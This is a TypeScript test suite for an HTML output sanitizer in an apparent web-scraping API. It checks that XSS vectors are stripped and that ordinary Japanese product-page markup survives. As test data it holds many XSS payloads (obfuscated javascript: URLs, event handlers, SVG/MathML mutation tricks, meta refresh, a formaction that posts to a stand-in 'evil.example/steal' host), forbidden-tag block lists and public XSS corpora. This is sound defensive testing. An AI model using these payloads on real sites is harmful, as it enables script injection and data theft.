// The output sanitizer, by class of attack (issue 7 §1), over a public vector corpus, and on content that must survive.
import { readFileSync } from 'node:fs';
import { parseDocument } from 'htmlparser2';
import { isTag, type AnyNode, type Element } from 'domhandler';
import { describe, expect, it } from 'vitest';
import { normalizePage, serializeHtml } from './normalize-page.js';
import type { HtmlPage } from './page.js';
import { safeUrl, sanitizeOutputHtml } from './sanitize-output.js';

const base = 'https://www.ikebe-gakki.com/c/c-/kb/kb01/kb011427/750592';
const clean = (html: string) => sanitizeOutputHtml(html, base);
/** The path the API takes: normalizePage (the extractors' tree), then serializeHtml. */
const served = (html: string) =>
  serializeHtml(
    normalizePage({
      body: new TextEncoder().encode(html),
      headers: { 'content-type': 'text/html; charset=utf-8' },
      finalUrl: base,
      input: 'html',
    }) as HtmlPage,
  );

// Written independently of the sanitizer's allowlist: what must never be in served HTML, whatever the allowlist says.
const FORBIDDEN_TAGS = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'param',
  'base',
  'form',
  'input',
  'textarea',
  'svg',
  'math',
  'noscript',
  'template',
  'xmp',
  'plaintext',
  'noembed',
  'noframes',
  'video',
  'audio',
  'canvas',
  'isindex',
  'portal',
  'image',
  'use',
  'animate',
  'set',
  'handler',
  'listener',
  'xss',
]);
const FORBIDDEN_ATTRIBUTES = new Set([
  'style',
  'srcdoc',
  'formaction',
  'action',
  'data',
  'xlink:href',
  'http-equiv',
  'poster',
  'background',
  'dynsrc',
  'lowsrc',
  'ping',
  'form',
  'codebase',
  'xmlns',
  'xml:base',
  'attributename',
  'values',
  'from',
  'to',
  'by',
  'autofocus',
  'is',
]);

/** Everything in `html` that could run, load or navigate; empty means inert. */
function violations(html: string): string[] {
  const problems: string[] = [];
  const document = parseDocument(html, { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true });
  const stack: AnyNode[] = [...document.children];
  while (stack.length > 0) {
    const node = stack.pop()!;
    if (!isTag(node)) continue;
    stack.push(...node.children);
    const el: Element = node;
    if (FORBIDDEN_TAGS.has(el.name)) problems.push(`<${el.name}>`);
    const rel = el.attribs.rel ?? (el.attribs.itemprop !== undefined ? 'canonical' : '');
    if (el.name === 'link' && !/^(canonical|alternate|next|prev|author|license|shortlink)$/i.test(rel))
      problems.push(`<link rel="${el.attribs.rel}">`);
    for (const [name, value] of Object.entries(el.attribs)) {
      if (name.startsWith('on') || FORBIDDEN_ATTRIBUTES.has(name)) problems.push(`<${el.name} ${name}>`);
      if (name === 'href' || name === 'src' || name === 'cite') {
        const allowed = el.name === 'a' ? /^(https?|mailto|tel):$/ : /^https?:$/;
        if (value.startsWith('#') && el.name === 'a') continue;
        let protocol = 'unparseable';
        try {
          // No base: every kept URL must be absolute already.
          protocol = new URL(value).protocol;
        } catch {
          /* reported below */
        }
        if (!allowed.test(protocol)) problems.push(`<${el.name} ${name}="${value}">`);
      }
      if (name === 'srcset') {
        for (const candidate of value.split(/,\s+/)) {
          const url = candidate.trim().split(/\s+/)[0] ?? '';
          if (!/^https:\/\/|^http:\/\//.test(url)) problems.push(`<${el.name} srcset="${value}">`);
        }
      }
      if (el.name === 'meta' && name === 'content' && /url\s*=/i.test(value) && el.attribs.name === undefined)
        problems.push('<meta content=url>');
    }
  }
  return problems;
}

/** Runs a payload through the sanitizer alone and through the API's path; both must be inert and free of `absent`. */
function expectInert(payload: string, absent: RegExp, wrap = (p: string) => p): string {
  const outputs = [clean(wrap(payload)), served(wrap(payload))];
  for (const out of outputs) {
    expect(violations(out), payload).toEqual([]);
    expect(out, payload).not.toMatch(absent);
  }
  return outputs[0]!;
}

describe('sanitizeOutputHtml: each class of active content goes', () => {
  it('iframe, srcdoc and frames (with their content)', () => {
    for (const payload of [
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
      '<IFRAME SRCDOC="<svg onload=alert(1)>">',
      '<div srcdoc="<script>alert(1)</script>">x</div>',
      '<iframe src="https://evil.example/"></iframe>',
      '<frameset><frame src="javascript:alert(1)"></frameset>',
    ]) {
      expectInert(payload, /srcdoc|iframe|alert/i, (p) => `<p>a</p>${p}<p>b</p>`);
    }
  });

  it('data: URLs in every URL attribute, however spelled', () => {
    const schemes = ['data:', 'DATA:', ' data:', '\tdata:', 'da&#x09;ta:', '&#100;ata:', 'data&colon;', '\x01data:'];
    for (const scheme of schemes) {
      for (const tag of [
        `<a href="${scheme}text/html,<script>alert(1)</script>">a</a>`,
        `<img src="${scheme}image/svg+xml,<svg onload=alert(1)>">`,
        `<img srcset="${scheme}image/png;base64,AAAA 1x">`,
        `<picture><source srcset="${scheme}image/png,AA"></picture>`,
        `<blockquote cite="${scheme}text/html,x">q</blockquote>`,
        `<link rel="canonical" href="${scheme}text/html,x">`,
      ]) {
        expectInert(tag, /data:/i);
      }
    }
  });

  it('form actions: formaction, action, and the form itself', () => {
    for (const payload of [
      '<form action="javascript:alert(1)"><input type="submit"></form>',
      '<form id="f"></form><button form="f" formaction="javascript:alert(1)">X</button>',
      '<button formaction="https://evil.example/steal" formmethod="post">X</button>',
      '<input type="image" formaction="javascript:alert(1)" src="x">',
      '<isindex type="image" src="x" action="javascript:alert(1)">',
    ]) {
      expectInert(payload, /action|javascript/i);
    }
    // The label stays readable; as type=button it cannot submit a form it is pasted into.
    expect(clean('<form><button>購入</button></form>')).toContain('<button type="button">購入</button>');
    expect(clean('<button type="submit" form="f">送信</button>')).toContain('<button type="button">送信</button>');
  });

  it('xlink:href and other namespaced URLs', () => {
    for (const payload of [
      '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
      '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
      '<a xlink:href="javascript:alert(1)">x</a>',
      '<div xlink:href="data:text/html,x" xml:base="javascript:alert(1)//">x</div>',
      '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    ]) {
      expectInert(payload, /xlink|javascript|data:/i);
    }
  });

  it('meta refresh and other http-equiv, however spelled, even to an http(s) URL', () => {
    for (const payload of [
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=https://evil.example/">',
      '<meta http-equiv=" refresh " content="0,javascript:alert(1)">',
      '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
      '<meta http-equiv="set-cookie" content="a=b">',
      '<meta http-equiv="Content-Security-Policy" content="default-src *">',
      '<meta content="0;url=javascript:alert(1)">',
    ]) {
      expectInert(payload, /http-equiv|url=|javascript|refresh/i, (p) => `<head>${p}</head>`);
    }
    expect(clean('<meta name="description" content="楽器">')).toContain('<meta name="description" content="楽器" />');
  });

  it('object, embed, applet and their parameters', () => {
    for (const payload of [
      '<object data="javascript:alert(1)"></object>',
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
      '<object type="text/x-scriptlet" data="https://evil.example/x.sct"><param name="src" value="javascript:alert(1)"></object>',
      '<embed src="javascript:alert(1)">',
      '<embed src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml">',
      '<applet code="x.class" codebase="javascript:alert(1)"></applet>',
    ]) {
      expectInert(payload, /javascript|data:|object|embed|applet|param/i);
    }
  });

  // Prefixes and spellings a browser reads as `javascript:` (or another script scheme), per the URL Standard and the
  // HTML character references: leading C0 controls and spaces, tabs and newlines anywhere, case, numeric and named
  // references. Each is tried in every URL attribute Kumo could keep.
  const obfuscations = [
    'javascript:alert(7)',
    ' java&#x09;script:alert(7)',
    'java&#10;script:alert(7)',
    'java&#13;script:alert(7)',
    'java&#x0A;script:alert(7)',
    '   javascript:alert(7)',
    '&#x20;javascript:alert(7)',
    '\u0001javascript:alert(7)',
    '\u001fjavascript:alert(7)',
    '\tjavascript:alert(7)',
    'jav\tascript:alert(7)',
    'jav\nascript:alert(7)',
    'JaVaScRiPt:alert(7)',
    'JAVASCRIPT:alert(7)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(7)',
    '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(7)',
    '&#0000106;&#0000097;vascript:alert(7)',
    '&#x6a&#x61vascript:alert(7)',
    'javascript&colon;alert(7)',
    'java&Tab;script:alert(7)',
    'java&NewLine;script:alert(7)',
    'vbscript:msgbox(7)',
    'VBScript:msgbox(7)',
    'livescript:alert(7)',
    'feed:javascript:alert(7)',
    'jar:javascript:alert(7)',
  ];
  const sinks = [
    (v: string) => `<a href="${v}">x</a>`,
    (v: string) => `<a href='${v}'>x</a>`,
    (v: string) => `<img src="${v}">`,
    (v: string) => `<img srcset="${v} 1x">`,
    (v: string) => `<picture><source srcset="${v}"></picture>`,
    (v: string) => `<blockquote cite="${v}">q</blockquote>`,
    (v: string) => `<q cite="${v}">q</q>`,
    (v: string) => `<link rel="canonical" href="${v}">`,
    (v: string) => `<form action="${v}"><button formaction="${v}">b</button></form>`,
    (v: string) => `<video poster="${v}"></video>`,
    (v: string) => `<body background="${v}">x</body>`,
    (v: string) => `<table background="${v}"><tr><td background="${v}">x</td></tr></table>`,
  ];

  it(`obfuscated script URLs: ${obfuscations.length} spellings × ${sinks.length} attributes`, () => {
    for (const value of obfuscations) {
      for (const sink of sinks) {
        const payload = sink(value);
        expectInert(payload, /script:|msgbox|alert/i);
      }
    }
  });

  it('the issue\'s own example, through normalizePage + serializeHtml, is dropped rather than "repaired"', () => {
    const out = served('<body><a href=" java&#x09;script:alert(7)">x</a></body>');
    expect(out).not.toMatch(/javascript|alert/);
    expect(out).toContain('<a>x</a>');
  });

  it('event handlers on any element, in any case', () => {
    const handlers = [
      'onload',
      'onerror',
      'onclick',
      'ONMOUSEOVER',
      'onFocus',
      'onbegin',
      'ontoggle',
      'onanimationstart',
    ];
    for (const tag of ['img', 'body', 'a', 'p', 'details', 'table', 'td', 'div', 'span', 'select', 'button', 'h1']) {
      for (const handler of handlers) {
        const payload = `<${tag} ${handler}="alert(1)" ${handler}=alert(2)>x</${tag}>`;
        expectInert(payload, /alert/);
      }
    }
  });

  it('SVG and MathML vectors, with all their content', () => {
    for (const payload of [
      '<svg onload="alert(1)"></svg>',
      '<svg><script>alert(1)</script></svg>',
      '<svg><script xlink:href="data:,alert(1)"></script></svg>',
      '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate></svg>',
      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>',
      '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
      '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
      '<svg><style><img src=x onerror=alert(1)></style></svg>',
      '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
      '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
      '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
      '<svg><image href="javascript:alert(1)"/></svg>',
    ]) {
      expectInert(payload, /alert|javascript/i, (p) => `<p>前</p>${p}`);
    }
  });

  it('style: attributes and elements, url() and expression(), and stylesheets', () => {
    for (const payload of [
      '<p style="background:url(javascript:alert(1))">x</p>',
      '<p style="background-image: url(&quot;javascript:alert(1)&quot;)">x</p>',
      '<div style="width: expression(alert(1))">x</div>',
      '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</div>',
      '<style>@import "javascript:alert(1)"; body{background:url(https://evil.example/)}</style>',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      '<link rel="preload" as="script" href="https://evil.example/x.js">',
      '<link rel="icon" href="https://evil.example/favicon.ico">',
      '<link rel="alternate stylesheet" href="https://evil.example/x.css">',
      '<link rel="import" href="https://evil.example/x.html">',
    ]) {
      expectInert(payload, /style|url\(|expression|evil/i);
    }
  });

  it('base href cannot redirect the links that stay', () => {
    const out = expectInert('<head><base href="javascript:alert(1)//"></head><a href="x">x</a>', /base|javascript/);
    expect(out).toContain('href="https://www.ikebe-gakki.com/c/c-/kb/kb01/kb011427/x"');
  });

  it('mailto: and tel: stay on links only; fragments stay fragments', () => {
    const out = clean(
      '<a href="mailto:info@example.jp">m</a><a href="TEL:03-1234-5678">t</a><img src="mailto:a@b"><a href="#spec">s</a>',
    );
    expect(out).toContain('<a href="mailto:info@example.jp">m</a>');
    expect(out).toContain('<a href="tel:03-1234-5678">t</a>');
    expect(out).toContain('<img />');
    expect(out).toContain('<a href="#spec">s</a>');
    expect(safeUrl('\t#x', base, undefined, true)).toBe('#x');
    // Not on an image: "#" there is a request for the page itself, so it is written out as the absolute URL it is.
    expect(clean('<img src="#" alt="a">')).toContain(`<img src="${base}#" alt="a" />`);
    expect(safeUrl('javascript:alert(1)#x', base)).toBeNull();
  });
});

describe('sanitizeOutputHtml: what changes the document where it is opened goes', () => {
  const base = 'https://www.ikebe-gakki.com/c/item/1';
  it('link rels a browser prefetches (next, prev, prefetch, preload, dns-prefetch) go; canonical stays', () => {
    for (const rel of ['next', 'prev', 'prefetch', 'preload', 'dns-prefetch', 'preconnect', 'NEXT']) {
      const out = sanitizeOutputHtml(`<link rel="${rel}" href="https://tracker.example/t">`, base);
      expect(out, rel).not.toContain('tracker.example');
    }
    expect(sanitizeOutputHtml('<link rel="canonical" href="/c/item/1">', base)).toContain(
      'href="https://www.ikebe-gakki.com/c/item/1"',
    );
  });

  it('meta names a browser acts on (referrer, viewport, color-scheme, theme-color) go; descriptive ones stay', () => {
    for (const name of ['referrer', 'Referrer', 'viewport', 'color-scheme', 'theme-color', 'monetization']) {
      const out = sanitizeOutputHtml(`<meta name="${name}" content="unsafe-url">`, base);
      expect(out, name).not.toContain('unsafe-url');
    }
    for (const name of ['description', 'keywords', 'og:title', 'twitter:card']) {
      expect(sanitizeOutputHtml(`<meta name="${name}" content="池部楽器">`, base), name).toContain('池部楽器');
    }
  });

  it('attribute names that are not plain names are dropped, so the output reads the same to every parser', () => {
    const out = sanitizeOutputHtml('<div aria-x"onmouseover=alert(1) aria-label="ok">text</div>', base);
    expect(out).not.toMatch(/onmouseover|alert/);
    expect(out).toContain('aria-label="ok"');
  });

  it('control characters HTML does not allow go, from text, attributes and URLs; its whitespace stays', () => {
    const forbidden = [...Array.from({ length: 0x20 }, (_, c) => c).filter((c) => ![9, 10, 12, 13].includes(c)), 0x7f];
    const all = forbidden.map((c) => String.fromCharCode(c)).join('');
    const out = served(
      `<p title="a${all}b">x${all}y\t\n\f\rz</p><a href="https://example.com/${all}p">l${all}k</a><img alt="${all}">`,
    );
    const left = [...out].filter((ch) => forbidden.includes(ch.charCodeAt(0)));
    expect(left.map((ch) => ch.charCodeAt(0))).toEqual([]);
    expect(out).toContain('title="ab"');
    expect(out).toContain('xy\t\n\f\rz');
    expect(out).toContain('>lk</a>');
    // The same through the sanitizer alone (artifacts and html take that path too).
    expect(clean(`<p>${all}</p>`)).toBe('<!DOCTYPE html>\n<p></p>');
  });
});

describe('sanitizeOutputHtml: what a reader needs survives', () => {
  it('tables, Japanese text, headings, lists, images with https src and links, made absolute', () => {
    const out = served(`<!DOCTYPE html><html lang="ja"><head><meta charset="Shift_JIS"><title>商品｜イケベ楽器店</title>
      <meta property="og:title" content="Kumo テスト"><link rel="canonical" href="/c/c-/kb/kb01/kb011427/750592"></head>
      <body><h1 class="fs-c-productNameHeading">ＵＳＢケーブル\u3000【箱損アウトレット】</h1>
      <table class="spec"><caption>仕様</caption><thead><tr><th scope="col">項目</th><th>値</th></tr></thead>
      <tbody><tr><td>価格</td><td colspan="2">¥2,200（税込）</td></tr></tbody></table>
      <ul><li>赤</li><li>青 &amp; 緑</li></ul><ol start="3"><li>三</li></ol>
      <img src="https://ikebeweb.itembox.design/item/1.jpg" alt="商品画像" width="300" srcset="/s.jpg 1x, //cdn.example.jp/l.jpg 2x">
      <a href="../kb011428/750593?ref=a&amp;b=2">関連商品</a> <p>2&lt;3 &quot;引用&quot;</p></body></html>`);
    expect(violations(out)).toEqual([]);
    expect(
      out.startsWith(
        '<!DOCTYPE html>\n<html lang="ja"><head><meta charset="utf-8" /><title>商品｜イケベ楽器店</title>',
      ),
    ).toBe(true);
    expect(out).toContain('<meta property="og:title" content="Kumo テスト" />');
    expect(out).toContain('<link rel="canonical" href="https://www.ikebe-gakki.com/c/c-/kb/kb01/kb011427/750592" />');
    expect(out).toContain('<h1 class="fs-c-productNameHeading">ＵＳＢケーブル\u3000【箱損アウトレット】</h1>');
    expect(out).toContain(
      '<table class="spec"><caption>仕様</caption><thead><tr><th scope="col">項目</th><th>値</th></tr></thead>',
    );
    expect(out).toContain('<tbody><tr><td>価格</td><td colspan="2">¥2,200（税込）</td></tr></tbody></table>');
    expect(out).toContain('<ul><li>赤</li><li>青 &amp; 緑</li></ul><ol start="3"><li>三</li></ol>');
    expect(out).toContain(
      '<img src="https://ikebeweb.itembox.design/item/1.jpg" alt="商品画像" width="300" srcset="https://www.ikebe-gakki.com/s.jpg 1x, https://cdn.example.jp/l.jpg 2x" />',
    );
    expect(out).toContain(
      '<a href="https://www.ikebe-gakki.com/c/c-/kb/kb01/kb011428/750593?ref=a&amp;b=2">関連商品</a>',
    );
    expect(out).toContain('<p>2&lt;3 "引用"</p>');
  });

  it('microdata: itemscope, itemprop on meta and link, which fetch nothing', () => {
    const out = served(`<div itemscope itemtype="https://schema.org/Offer"><meta itemprop="priceCurrency" content="JPY">
      <link itemprop="availability" href="https://schema.org/InStock"><span itemprop="price">2200</span></div>`);
    expect(violations(out)).toEqual([]);
    expect(out).toContain('<meta itemprop="priceCurrency" content="JPY" />');
    expect(out).toContain('<link itemprop="availability" href="https://schema.org/InStock" />');
    expect(out).toContain('<span itemprop="price">2200</span>');
  });
});

interface Vector {
  id: string;
  title: string;
  payload: string;
}
// DOMPurify + H5SC (MPL-2.0) and OWASP's filter-evasion cheat sheet (CC BY-SA 4.0): test/fixtures/xss/README.md.
const corpus = {
  vectors: ['vectors.json', 'owasp-vectors.json'].flatMap(
    (file) =>
      (
        JSON.parse(readFileSync(new URL(`../../test/fixtures/xss/${file}`, import.meta.url), 'utf8')) as {
          vectors: Vector[];
        }
      ).vectors,
  ),
};

describe(`public XSS corpus (${corpus.vectors.length} vectors from DOMPurify, H5SC and OWASP, test/fixtures/xss)`, () => {
  it('leaves nothing that could run, load or navigate, alone and inside a page', () => {
    const failures: string[] = [];
    for (const vector of corpus.vectors) {
      for (const out of [
        clean(vector.payload),
        served(`<html><body><p>前</p>${vector.payload}<p>後</p></body></html>`),
      ]) {
        const found = violations(out);
        if (found.length > 0) failures.push(`${vector.id}: ${found.join(', ')}`);
      }
    }
    expect(failures).toEqual([]);
  });
});
